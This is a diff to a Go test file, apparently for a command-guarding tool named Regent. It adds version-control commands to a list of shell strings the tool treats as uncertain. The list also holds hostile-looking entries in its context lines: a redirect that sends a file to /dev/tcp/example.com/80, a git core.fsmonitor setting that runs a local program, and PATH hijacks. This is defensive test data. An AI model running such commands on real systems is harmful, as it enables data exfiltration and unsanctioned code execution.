@@ -159,7 +159,7 @@ func TestWhatIsNotCertainHasNoSessionKey(t *testing.T) {
 		// variables that steer what follows
 		"A=1 touch a", "PATH=. touch a", "PATH=.", "export A=1", "set -e; touch a", "umask 0; touch a",
 		// repositories that start programs, or may
-		"git status", "git -C hostile status", "cd hostile && git status", "git -C sub -c core.fsmonitor=./x status", "git -C sub commit -m x", "git push",
+		"git status", "git -C hostile status", "cd hostile && git status", "git -C sub -c core.fsmonitor=./x status", "git -C sub commit -m x", "git push", "hg status", "svn status", "jj log", "gh pr list",
 		// connections that are no file, and what Regent guards
 		"cat a.txt > /dev/tcp/example.com/80", "touch .codex/x", "regent trust .",
 	} {
